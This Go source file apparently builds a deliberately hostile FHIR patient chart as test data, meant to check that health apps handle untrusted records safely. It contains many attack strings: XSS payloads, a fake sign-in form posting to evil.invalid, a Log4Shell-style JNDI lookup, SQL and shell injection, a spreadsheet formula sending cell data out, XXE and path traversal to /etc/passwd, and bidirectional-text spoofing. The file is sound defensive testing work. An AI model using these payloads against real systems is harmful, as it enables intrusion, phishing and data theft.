package sandbox

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"

	"github.com/samply/golang-fhir-models/fhir-models/fhir"
)

// The characters that steer the direction of text, or cannot be seen.
const (
	backwards = "\u202e" // RIGHT-TO-LEFT OVERRIDE
	popped    = "\u202c" // POP DIRECTIONAL FORMATTING
	noSpace   = "\u200b" // ZERO WIDTH SPACE
	joiner    = "\u200d" // ZERO WIDTH JOINER
)

// hostile is the chart of a test person: all that a careless app would run, fetch,
// misread or fail at. Every address in it ends in .invalid, which leads nowhere.
func (c *chart) hostile() {
	c.person(identity{
		given: "TEST PERSON", family: "Hostile" + noSpace + " " + backwards + "elitsoh" + popped, born: "1970-01-01", number: "MB-000666",
		phone: "+1 555 0100;ext=" + backwards + "1", street: "1 Test Chart " + strings.Repeat("Very Long ", 40) + "Street",
		gender: fhir.AdministrativeGenderOther, contact: "Con" + joiner + noSpace + "tact " + backwards + "tset" + popped, relation: "<b>Nobody</b>",
		labels: []fhir.Coding{coding(hl7Terms+"v3-ActReason", testData, "test health data")},
	})
	for i, n := range hostileNarratives() {
		c.hostileResult(n, ago(1, time.January, 1).AddDate(0, 0, i))
	}
	for i, text := range hostileTexts() {
		c.hostileCondition(text, ago(2, time.January, 1).AddDate(0, 0, i))
	}
	for i, a := range hostileFiles() {
		c.hostileDocument(a, ago(3, time.January, 1).AddDate(0, 0, i))
	}
	c.hostileCodes()
	c.hostileStrays()
}

// hostileResult is an Observation with a narrative that is not to be trusted.
func (c *chart) hostileResult(n hostileNarrative, at time.Time) {
	id := c.id("hx")
	c.put(fhir.Observation{
		Id: &id, Meta: meta(at), Status: fhir.ObservationStatusFinal,
		Text:              &fhir.Narrative{Status: fhir.NarrativeStatusAdditional, Div: n.div},
		Category:          []fhir.CodeableConcept{concept("Survey", coding(observationCategory, "survey", "Survey"))},
		Code:              concept("Test: " + n.title),
		Subject:           c.subject(),
		EffectiveDateTime: ptr(instant(at)),
		ValueString:       ptr("Not for treatment"),
	})
}

// hostileCondition is a Condition whose name is not to be trusted.
func (c *chart) hostileCondition(name string, at time.Time) {
	id := c.id("hc")
	c.put(fhir.Condition{
		Id: &id, Meta: meta(at),
		ClinicalStatus: ptr(concept("Active", coding(hl7Terms+"condition-clinical", "active", "Active"))),
		Code:           ptr(concept(name, fhir.Coding{Display: &name})),
		Subject:        *c.subject(),
		RecordedDate:   ptr(date(at)),
		Recorder:       reference("Practitioner/"+familyDoctor.id, "Dr "+name),
		Note:           []fhir.Annotation{{Text: name, AuthorString: &name}},
	})
}

// hostileDocument is a DocumentReference with an attachment that lies.
func (c *chart) hostileDocument(a fhir.Attachment, at time.Time) {
	id := c.id("hd")
	c.put(fhir.DocumentReference{
		Id: &id, Meta: meta(at), Status: fhir.DocumentReferenceStatusCurrent,
		Type: ptr(concept(*a.Title)), Subject: c.subject(), Date: ptr(instant(at)), Description: a.Title,
		Content: []fhir.DocumentReferenceContent{{Attachment: a}},
	})
}

// hostileCodes are statuses that no value set has, numbers and dates at the edge,
// and records that point to themselves.
func (c *chart) hostileCodes() {
	subject := `"subject":{"reference":"Patient/` + c.patient + `"}`
	for _, raw := range []string{
		`{"resourceType":"MedicationRequest","id":"hm-1004-001","status":"flummoxed","intent":"wish",` + subject + `,"medicationCodeableConcept":{"text":"Test: unknown status"},"authoredOn":"2025-02-01"}`,
		`{"resourceType":"Observation","id":"hm-1004-002","status":"half-baked",` + subject + `,"code":{"text":"Test: numbers at the edge"},"component":[` +
			`{"code":{"text":"huge"},"valueQuantity":{"value":1.7e308,"unit":"m\u0000g"}},{"code":{"text":"exact"},"valueQuantity":{"value":123456789012345678901234567890.10}},` +
			`{"code":{"text":"nothing"},"valueQuantity":{"value":-0.00}}]}`,
		`{"resourceType":"Immunization","id":"hm-1004-003","status":["completed"],"patient":{"reference":"Patient/` + c.patient + `"},"vaccineCode":"a word","occurrenceDateTime":"2025-13-45"}`,
		`{"resourceType":"DiagnosticReport","id":"hm-1004-004","status":"final",` + subject + `,"code":{"text":"Test: points to itself"},"result":[{"reference":"DiagnosticReport/hm-1004-004"}],"effectiveDateTime":"0000-00-00"}`,
		`{"resourceType":"Procedure","id":"hm-1004-005","status":"completed",` + subject + `,"code":{"text":"Test: null and empty"},"note":[null,{},{"text":""}],"text":{"status":"generated","div":""},"performedDateTime":null}`,
		`{"resourceType":"CarePlan","id":"hm-1004-006","status":"active","intent":"plan",` + subject + `,"title":"Test: very deep","contained":` + nested(200) + `}`,
	} {
		c.keep([]byte(raw))
	}
}

// hostileStrays are what cannot be a record here: entries of search results
// without an id, and of a type that FHIR does not have.
func (c *chart) hostileStrays() {
	subject := `"subject":{"reference":"Patient/` + c.patient + `"}`
	c.strays = []stray{
		{"Observation", `{"resource":{"resourceType":"Observation","status":"final",` + subject + `,"code":{"text":"Test: no id"}},"search":{"mode":"match"}}`},
		{"Wobble", `{"fullUrl":"urn:uuid:2f1d1f0e-1004-4a4a-8a8a-0a0a0a0a0a0a","resource":{"resourceType":"Wobble","id":"wobble-1004-001","status":"flummoxed",` + subject +
			`,"amplitude":3.5,"text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Test: a type that nobody knows</p></div>"}},"search":{"mode":"match"}}`},
	}
}

// nested is a list within a list, so many times.
func nested(depth int) string {
	return `[{"resourceType":"Basic","id":"deep","extension":` + strings.Repeat(`[{"url":"urn:x","extension":`, depth) +
		`[]` + strings.Repeat(`}]`, depth) + `}]`
}

// hostileTexts are names that mislead the eye, the terminal or the table program.
func hostileTexts() []string {
	return []string{
		"Test: " + strings.Repeat("a title that does not end and ", 340)[:10_000-len("Test: ")],
		"Test:" + strings.Repeat("x", 10_000-len("Test:")),
		"Test: read " + backwards + "sdrawkcab" + popped + " and again " + backwards + "never closed",
		"Test: in" + noSpace + "visible" + joiner + "\u2060\ufeff\u00ad cha\u034fracters",
		"Test: \u001b[2J\u001b[1;31mred\u0007\u009b31m\u0000 and \rback",
		"Test: <script>alert('title')</script> &amp; <img src=x onerror=alert(1)>",
		"Test: [click here](javascript:alert(1)) ![picture](https://tracker.invalid/a.png) **bold** `code`",
		"=HYPERLINK(\"https://evil.invalid/?\"&A1;\"Test\")",
		"Test: Z" + strings.Repeat("\u0324\u0301\u0300\u0310", 60) + "algo",
		"Test: %s%n%d {{.Secret}} ${jndi:ldap://evil.invalid/a} $(id) `id` '; DROP TABLE record; --",
	}
}

// hostileFiles are attachments whose names, types and addresses do not say what
// they are.
func hostileFiles() []fhir.Attachment {
	page := base64.StdEncoding.EncodeToString([]byte("<!DOCTYPE html><title>Letter</title><script>alert(document.cookie)</script><p>Test letter</p>"))
	inside := func(title, contentType string) fhir.Attachment {
		return fhir.Attachment{Title: ptr("Test: " + title), ContentType: &contentType, Data: &page, Size: ptr(7)}
	}
	outside := func(title, address string) fhir.Attachment {
		return fhir.Attachment{Title: ptr("Test: " + title), ContentType: ptr("application/pdf"), Url: &address}
	}
	return []fhir.Attachment{
		inside("a page that calls itself text", "text/plain"),
		inside("report"+backwards+"fdp.exe", "application/pdf"),
		inside("../../../../etc/passwd", "image/png"),
		inside("CON.txt", "text/html; charset=utf-8\r\nX-Injected: 1"),
		outside("a letter elsewhere", "https://files.invalid/letter.pdf"),
		outside("a script for an address", "javascript:alert(1)"),
		outside("a file of this computer", "file:///etc/passwd"),
		outside("a file that is not there", "Binary/hf-1004-999"),
		{Title: ptr("Test: neither"), ContentType: ptr(strings.Repeat("application/", 100))},
	}
}

// hostileNarrative is a div that is to be drawn without harm.
type hostileNarrative struct{ title, div string }

const xhtml = `<div xmlns="http://www.w3.org/1999/xhtml">`

// hostileNarratives are kept apart from the other charts' stories: nothing in
// them is escaped.
func hostileNarratives() []hostileNarrative {
	div := func(title, inner string) hostileNarrative {
		return hostileNarrative{title, xhtml + "<p>Before: " + title + ".</p>" + inner + "<p>After.</p></div>"}
	}
	return []hostileNarrative{
		div("scripts", `<script>alert('one')</script><script src="https://evil.invalid/x.js"/><p><![CDATA[<script>alert('two')</script>]]></p>`),
		div("event handlers", `<p onclick="alert(1)" onmouseover='alert(2)'>Press here</p><img src="#x" alt="picture" onerror="alert(3)"/><details ontoggle="alert(4)" open="open">More</details>`),
		div("pictures from elsewhere", `<img src="https://tracker.invalid/pixel.png?patient=1004" alt="remote"/><img src="//tracker.invalid/p.gif" alt="no scheme"/>`+
			`<img src="http://tracker.invalid/p.svg" width="1" height="1"/><p style="background:url(https://tracker.invalid/bg.png)">styled</p>`),
		div("pictures inside", `<img alt="vector" src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="/>`+
			`<img alt="no picture" src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/><img alt="missing" src="#nothing"/>`),
		div("links that run", `<a href="javascript:alert(1)">one</a> <a href="JaVa&#9;ScRiPt:alert(2)">two</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">three</a> `+
			`<a href="vbscript:msgbox(1)">four</a> <a href="file:///etc/passwd">five</a> <a href=" &#1;javascript:alert(6)">six</a>`),
		div("links that look like others", `<a href="https://millbr&#x43E;&#x43E;k.invalid/">https://millbrook.invalid/</a> <a href="https://xn--millbrk-5fga.invalid/">Millbrook</a> `+
			`<a href="https://millbrook.invalid@evil.invalid/">millbrook.invalid</a> <a href="https://evil.invalid/"> https://millbrook.invalid/portal</a> <a href="https://millbrook.invalid%2f.evil.invalid/">portal</a>`),
		div("forms and frames", `<form action="https://evil.invalid/steal"><input type="password" name="p"/><button>Sign in again</button></form>`+
			`<iframe src="https://evil.invalid/"></iframe><object data="https://evil.invalid/a.swf"></object><meta http-equiv="refresh" content="0;url=https://evil.invalid/"/><base href="https://evil.invalid/"/>`),
		div("styles", `<style>@import url(https://tracker.invalid/a.css); p { display: none }</style><p style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">over everything</p>`+
			`<p style="display:none">Take no penicillin</p><p>Dose: <span style="text-decoration:line-through">10 tablets</span> 1 tablet</p>`),
		div("directions", `<p>Amount `+backwards+`gm 001`+popped+` and not `+backwards+`open to the end</p><p dir="rtl">dir says right to left</p><p>in`+noSpace+`vis`+joiner+`ible</p>`),
		div("tables in tables", deepTable(60)),
		div("a wide table", wideTable(150, 4)),
		div("lists in lists", strings.Repeat("<ul><li>", 80)+"the bottom"+strings.Repeat("</li></ul>", 80)),
		{"entities", `<!DOCTYPE div [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x SYSTEM "file:///etc/passwd">]>` + xhtml + `<p>&c;&x;</p></div>`},
		{"instructions", `<?xml-stylesheet href="https://evil.invalid/a.xsl"?>` + xhtml + `<?php system('id') ?><p>After an instruction</p><!-- <script>alert(1)</script> --></div>`},
		{"not well formed", xhtml + `<p>One<b>two<i>three</p></b></i><p>four &nbsp; &unknown; < five <br> six<td>seven</td>`},
		{"vectors and formulas", xhtml + `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><foreignObject><p>inside</p></foreignObject></svg><math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:alert(1)">x</mi></math></div>`},
		{"no div", `<p>Only a paragraph</p>`},
		{"nothing", xhtml + ` </div>`},
		{"a single word of great length", xhtml + `<p>` + strings.Repeat("w", 50_000) + `</p></div>`},
		{"very many paragraphs", xhtml + strings.Repeat("<p>Once more.</p>", 3000) + `</div>`},
	}
}

func deepTable(depth int) string {
	return strings.Repeat("<table><tbody><tr><td>in", depth) + " the bottom" + strings.Repeat("</td></tr></tbody></table>", depth)
}

func wideTable(columns, rows int) string {
	var b strings.Builder
	b.WriteString("<table>")
	for r := range rows {
		b.WriteString("<tr>")
		for col := range columns {
			fmt.Fprintf(&b, "<td>%d.%d</td>", r, col)
		}
		b.WriteString("</tr>")
	}
	b.WriteString("</table>")
	return b.String()
}
